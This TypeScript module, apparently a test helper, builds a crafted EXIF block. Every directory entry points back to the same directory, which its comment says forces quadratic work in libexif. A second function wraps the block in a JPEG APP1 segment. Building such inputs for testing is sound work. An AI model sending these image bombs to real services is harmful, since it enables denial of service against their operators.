/** An EXIF block with a directory whose `entries` entries all point back to the directory: libexif needs `entries`² steps. */
export function exifBomb(entries: number): Buffer {
  const tiff = Buffer.alloc(14 + 12 * entries);
  tiff.write('MM\0*', 'latin1');
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(entries, 8);
  for (let i = 0; i < entries; i++) {
    tiff.writeUInt16BE(0x8769, 10 + 12 * i);
    tiff.writeUInt16BE(4, 12 + 12 * i);
    tiff.writeUInt32BE(1, 14 + 12 * i);
    tiff.writeUInt32BE(8, 18 + 12 * i);
  }
  return tiff;
}

/** Wraps an EXIF block in an APP1 segment of a JPEG. */
export function jpegSegment(exif: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), exif]);
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}
